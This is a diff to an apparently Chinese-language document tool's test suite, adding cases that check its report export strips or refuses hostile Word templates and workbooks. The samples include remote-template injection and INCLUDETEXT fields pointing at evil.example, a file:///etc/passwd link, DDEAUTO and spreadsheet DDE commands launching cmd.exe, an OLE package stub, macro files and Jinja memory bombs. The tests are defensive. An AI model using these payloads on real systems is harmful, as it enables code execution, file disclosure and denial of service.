@@ -372,6 +372,11 @@ class Case:
     needs: str = ""  # "soffice" or "msoffcrypto"
     words: str = ""  # further words the output must contain
     note: str = ""
+    template: Callable[[Base, Path], Path] | None = None  # export with --template made by this (the input is the demo)
+    max_rss_mb: int = 0  # the command's peak resident memory (its render process included) must stay below this
+    env: tuple = ()  # (name, value) pairs for the command's environment (run in a child process)
+    absent: tuple = ()  # strings no member of the output may contain
+    present: tuple = ()  # strings some member of the output must contain
 
 
 def _f(base: Base, d: Path, name: str) -> Path:
@@ -967,6 +972,188 @@ def _company_bad(value, name):
     return _field("company", value, name)
 
 
+def _duplicate_member(base: Base, d: Path) -> Path:
+    """Two members named like the D.6 sheet: the second (read by a reader that keeps the last) says
+    something else than the first."""
+    import warnings
+
+    p = d / "重复部件.xlsx"
+    shutil.copy(base.path, p)
+    part = sheet_parts(base.path)[base.sheet("D.6")]
+    with zipfile.ZipFile(p) as z:
+        xml = z.read(part)
+    sheet, ref = base.cell("D.6", 0, "output_3")
+    with zipfile.ZipFile(p, "a", zipfile.ZIP_DEFLATED) as z, warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # "Duplicate name": what the case is about
+        z.writestr(part, _set_cell(xml, ref, 999999999))
+    return p
+
+
+def _duplicate_member_case(base: Base, d: Path) -> Path:
+    """Two members whose names differ only in case (OPC part names ignore case)."""
+    p = d / "大小写重复部件.xlsx"
+    part = sheet_parts(base.path)[base.sheet("D.6")]
+    with zipfile.ZipFile(base.path) as z:
+        xml = z.read(part)
+    return rewrite(base.path, p, {}, add={part.upper().replace("XL/", "xl/"): xml})
+
+
+def _lone_surrogate(field_or_cell: str):
+    """A character reference to a lone surrogate (&#xD800;, which XML does not allow) in a cell: inline in
+    the sheet, or in a shared string."""
+    def make(base: Base, d: Path) -> Path:
+        if field_or_cell == "cover":
+            sheet, ref = base.field("company")
+            return set_cells(base.path, d / "孤立代理项.xlsx", {sheet: {ref: Raw('t="inlineStr"', "<is><t>清泉&#xD800;啤酒有限公司</t></is>")}})
+        sheet, ref = base.cell("D.6", 0, "product")
+        return entity_in_shared_strings(base.path, d / "孤立代理项-共享字符串.xlsx", sheet, ref, b"", "#55296")
+
+    return make
+
+
+# -- report templates (cpxl export --template): made from the shipped audit template
+
+NS_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+RELS_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+EVIL = "http://evil.example"
+
+
+def _rel(rid: str, kind: str, target: str, external: bool = False) -> str:
+    mode = ' TargetMode="External"' if external else ""
+    return f'<Relationship Id="{rid}" Type="{kind if "://" in kind else REL + kind}" Target="{escape(target)}"{mode}/>'
+
+
+def _add_rels(xml: bytes, *rels: str) -> bytes:
+    return xml.replace(b"</Relationships>", "".join(rels).encode() + b"</Relationships>")
+
+
+def _in_body(xml: bytes, inner: str) -> bytes:
+    return xml.replace(b"<w:body>", b"<w:body>" + inner.encode(), 1)
+
+
+def _content_types(xml: bytes, *items: str) -> bytes:
+    return xml.replace(b"</Types>", "".join(items).encode() + b"</Types>")
+
+
+def _shipped_template() -> Path:
+    from cpxl.report.templates import template_path
+
+    return template_path("audit")
+
+
+def _template_text(tag: str, name: str):
+    """The shipped template with one paragraph holding `tag` (template syntax) at the start of the body."""
+    def make(base: Base, d: Path) -> Path:
+        para = f'<w:p><w:r><w:t xml:space="preserve">{escape(tag)}</w:t></w:r></w:p>'
+        return rewrite(_shipped_template(), d / name, {"word/document.xml": lambda x: _in_body(x, para)})
+
+    return make
+
+
+def _template_external(base: Base, d: Path) -> Path:
+    """Remote-template injection and external links: w:attachedTemplate → an http .dotm, a hyperlink to
+    file:///etc/passwd and one to a UNC share, an externally linked picture (DrawingML r:link and VML
+    o:href), INCLUDETEXT / INCLUDEPICTURE / DDEAUTO fields; one ordinary https hyperlink that stays."""
+    body = (
+        '<w:p><w:hyperlink r:id="rIdEvilFile"><w:r><w:t>本地文件</w:t></w:r></w:hyperlink>'
+        '<w:hyperlink r:id="rIdEvilUnc"><w:r><w:t>共享</w:t></w:r></w:hyperlink>'
+        '<w:hyperlink r:id="rIdGood"><w:r><w:t>官网</w:t></w:r></w:hyperlink></w:p>'
+        f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{EVIL}/include.docx&quot; "><w:r><w:t>包含的文字</w:t></w:r></w:fldSimple></w:p>'
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
+        f'<w:r><w:instrText xml:space="preserve">PICTURE "{EVIL}/pixel.png" \\d </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>图片</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        '<w:p><w:r><w:pict><v:shape id="_x0000_s9" style="width:10pt;height:10pt">'
+        f'<v:imagedata r:id="rIdEvilImg" o:href="{EVIL}/vml.png"/></v:shape></w:pict></w:r></w:p>'
+        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="900" name="外链图片"/>'
+        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
+        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="900" name="x"/><pic:cNvPicPr/></pic:nvPicPr>'
+        '<pic:blipFill><a:blip r:link="rIdEvilImg"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
+    )
+    settings_rels = RELS_HEAD + _rel("rIdEvilTpl", "attachedTemplate", f"{EVIL}/normal.dotm", True) + "</Relationships>"
+    return rewrite(_shipped_template(), d / "远程模板.docx", {
+        "word/document.xml": lambda x: _in_body(x, body),
+        "word/_rels/document.xml.rels": lambda x: _add_rels(
+            x, _rel("rIdEvilFile", "hyperlink", "file:///etc/passwd", True), _rel("rIdEvilUnc", "hyperlink", "\\\\evil.example\\share\\x", True),
+            _rel("rIdGood", "hyperlink", "https://www.mee.gov.cn/", True), _rel("rIdEvilImg", "image", f"{EVIL}/pixel.png", True)),
+        "word/settings.xml": lambda x: re.sub(rb"(<w:settings\b[^>]*>)", lambda m: m[1] + b'<w:attachedTemplate r:id="rIdEvilTpl"/>', x, count=1),
+    }, add={"word/_rels/settings.xml.rels": settings_rels.encode()})
+
+
+OLE_BIN = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Package\x00calc.exe\x00cmd /c calc" + bytes(512)
+
+
+def _template_objects(base: Base, d: Path) -> Path:
+    """An OLE package object (ProgID "Package", word/embeddings/oleObject1.bin), an ActiveX control
+    (word/activeX), a custom XML part bound to a content control."""
+    body = (
+        '<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:40pt;height:40pt"><v:imagedata r:id="rIdOleIcon"/></v:shape>'
+        '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1234" r:id="rIdOle"/></w:object></w:r></w:p>'
+        '<w:p><w:r><w:object><v:shape id="_x0000_i1026" style="width:40pt;height:20pt"/>'
+        '<w:control r:id="rIdAx" w:name="CommandButton1" w:shapeid="_x0000_i1026"/></w:object></w:r></w:p>'
+        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/root/x" w:storeItemID="{11111111-2222-3333-4444-555555555555}"/></w:sdtPr>'
+        '<w:sdtContent><w:p><w:r><w:t>绑定</w:t></w:r></w:p></w:sdtContent></w:sdt>'
+    )
+    png = b"\x89PNG\r\n\x1a\n" + bytes(64)
+    ax = ('<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="' + NS_R + '" '
+          'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit" r:id="rId1"/>')
+    ax_rels = RELS_HEAD + _rel("rId1", "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary", "activeX1.bin") + "</Relationships>"
+    item = '<?xml version="1.0" encoding="UTF-8"?><root><x>绑定的数据</x></root>'
+    props = ('<?xml version="1.0" encoding="UTF-8"?><ds:datastoreItem ds:itemID="{11111111-2222-3333-4444-555555555555}" '
+             'xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>')
+    item_rels = RELS_HEAD + _rel("rId1", "customXmlProps", "itemProps9.xml") + "</Relationships>"
+    return rewrite(_shipped_template(), d / "嵌入对象模板.docx", {
+        "word/document.xml": lambda x: _in_body(x, body),
+        "word/_rels/document.xml.rels": lambda x: _add_rels(
+            x, _rel("rIdOle", "oleObject", "embeddings/oleObject1.bin"), _rel("rIdOleIcon", "image", "media/oleicon.png"),
+            _rel("rIdAx", "control", "activeX/activeX1.xml"), _rel("rIdCx", "customXml", "../customXml/item9.xml")),
+        "[Content_Types].xml": lambda x: _content_types(
+            x, '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
+            '<Default Extension="png" ContentType="image/png"/>',
+            '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
+            '<Override PartName="/word/activeX/activeX1.bin" ContentType="application/vnd.ms-office.activeX"/>',
+            '<Override PartName="/customXml/itemProps9.xml" ContentType="application/vnd.openxmlformats-officedocument.customXmlProperties+xml"/>'),
+    }, add={"word/embeddings/oleObject1.bin": OLE_BIN, "word/media/oleicon.png": png, "word/activeX/activeX1.xml": ax.encode(),
+            "word/activeX/_rels/activeX1.xml.rels": ax_rels.encode(), "word/activeX/activeX1.bin": OLE_BIN,
+            "customXml/item9.xml": item.encode(), "customXml/itemProps9.xml": props.encode(),
+            "customXml/_rels/item9.xml.rels": item_rels.encode()})
+
+
+def _template_vba(base: Base, d: Path) -> Path:
+    """A VBA project in a file whose content types still say .docx."""
+    return rewrite(_shipped_template(), d / "宏模板.docx", {
+        "word/_rels/document.xml.rels": lambda x: _add_rels(x, _rel("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")),
+    }, add={"word/vbaProject.bin": OLE_BIN})
+
+
+def _template_docm(base: Base, d: Path) -> Path:
+    """A macro-enabled document (.docm) renamed to .docx."""
+    return rewrite(_shipped_template(), d / "改名的docm.docx", {
+        "[Content_Types].xml": lambda x: x.replace(b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")})
+
+
+def _template_duplicate(base: Base, d: Path) -> Path:
+    """Two word/document.xml: readers disagree on which one counts."""
+    p = d / "重复部件模板.docx"
+    shutil.copy(_shipped_template(), p)
+    with zipfile.ZipFile(p, "a") as z, __import__("warnings").catch_warnings():
+        __import__("warnings").simplefilter("ignore")
+        z.writestr("word/document.xml", b"<w:document/>")
+    return p
+
+
+TEMPLATE_BOMBS = {
+    "strings": "{{ 'x' * 1000000000 }}{{ (('a'*100000)|list)|join('b'*100000) }}",
+    "loops": "{% for i in range(100000) %}{% for j in range(100000) %}{{ j }}{% endfor %}{% endfor %}",
+    "doubling": "{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}",
+    "methods": "{{ 'x'.ljust(10**9) }}{{ '{:>999999999}'.format(1) }}{{ 'x'|center(10**9) }}",
+    # past every check of the sandbox (each string and list within its limits): the address-space limit ends it
+    "memory": "{% set ns = namespace(a=[]) %}{% for i in range(190000) %}{% set _ = ns.a.append(('x' * 1000000) ~ i) %}{% endfor %}{{ ns.a|length }}",
+}
+
+
 def build_cases() -> list[Case]:
     d6 = "D.6"
     cases = [
@@ -1068,6 +1255,33 @@ def build_cases() -> list[Case]:
         Case("template-in-section-text", _template_in_sections),
         Case("company-formula", _company_bad("=HYPERLINK(\"http://evil.example/\",\"点击\")", "企业名公式.xlsx")),
         Case("company-dde", _company_bad("=cmd|' /C calc'!A0", "企业名DDE.xlsx")),
+        Case("duplicate-member", _duplicate_member, refused="不止一次"),
+        Case("duplicate-member-case", _duplicate_member_case, refused="不止一次"),
+        Case("lone-surrogate-cover", _lone_surrogate("cover"), at=_at_field("company"), rule="bad_character",
+             commands=ALL, note="calc refuses naming the cell (the evaluator parses the sheets as XML)"),
+        Case("lone-surrogate-shared-string", _lone_surrogate("sst"), at=_at("D.6", 0, "product"), rule="bad_character"),
+        # report templates (export --template): external links and embedded objects removed, resources bounded
+        Case("template-external-links", _base_path, template=_template_external, commands=EXPORT, network=True,
+             words="已删除", absent=("attachedTemplate", "evil.example", "file:///etc/passwd", "INCLUDETEXT", "INCLUDEPICTURE", "DDEAUTO",
+                                  "o:href"),
+             present=("https://www.mee.gov.cn/",), note="remote-template injection; https hyperlinks stay"),
+        Case("template-embedded-objects", _base_path, template=_template_objects, commands=EXPORT, words="已删除",
+             absent=("oleObject", "OLEObject", "embeddings/", "activeX", "w:control", "customXml/item9", "dataBinding", "calc.exe",
+                     "绑定的数据")),
+        Case("template-vba-in-docx", _base_path, template=_template_vba, commands=EXPORT, refused="宏"),
+        Case("template-renamed-docm", _base_path, template=_template_docm, commands=EXPORT, refused="宏"),
+        Case("template-duplicate-part", _base_path, template=_template_duplicate, commands=EXPORT, refused="不止一次"),
+        Case("template-huge-strings", _base_path, template=_template_text(TEMPLATE_BOMBS["strings"], "字符串炸弹.docx"),
+             commands=EXPORT, refused="超出限制", max_rss_mb=1024),
+        Case("template-nested-loops", _base_path, template=_template_text(TEMPLATE_BOMBS["loops"], "嵌套循环.docx"),
+             commands=EXPORT, refused="循环", max_rss_mb=1024),
+        Case("template-doubling", _base_path, template=_template_text(TEMPLATE_BOMBS["doubling"], "倍增.docx"),
+             commands=EXPORT, refused="超出限制", max_rss_mb=1024),
+        Case("template-methods", _base_path, template=_template_text(TEMPLATE_BOMBS["methods"], "方法放大.docx"),
+             commands=EXPORT, refused="超出限制", max_rss_mb=1024),
+        Case("template-memory", _base_path, template=_template_text(TEMPLATE_BOMBS["memory"], "内存耗尽.docx"),
+             commands=EXPORT, refused="内存", env=(("CPXL_RENDER_MEMORY_MB", "600"),), max_rss_mb=1500,
+             note="beyond the sandbox's checks: the render process's address-space limit (600 MB here) stops it"),
     ]
     ids = [c.id for c in cases]
     assert len(ids) == len(set(ids)), "duplicate case ids"
@@ -1076,11 +1290,20 @@ def build_cases() -> list[Case]:
     # own (a full evaluation or export takes seconds).
     out = []
     for c in cases:
-        if not c.refused and c.commands == ALL:
+        if not c.refused and c.commands == ALL and c.id not in EVERY_COMMAND:
             c = replace(c, commands=frozenset({"check", "aggregate"} | ({"export"} if c.id in EXPORT_TOO else set())
                                                 | ({"calc"} if c.id in CALC_TOO else set())))
         out.append(c)
     return out
+
+
+EXPORT = frozenset({"export"})
+EVERY_COMMAND = {"lone-surrogate-cover"}  # read cases run through all four commands
+
+
+def _base_path(base: Base, d: Path) -> Path:
+    """The demo workbook itself (cases about the template, not the workbook)."""
+    return base.path
 
 
 CALC_TOO = {
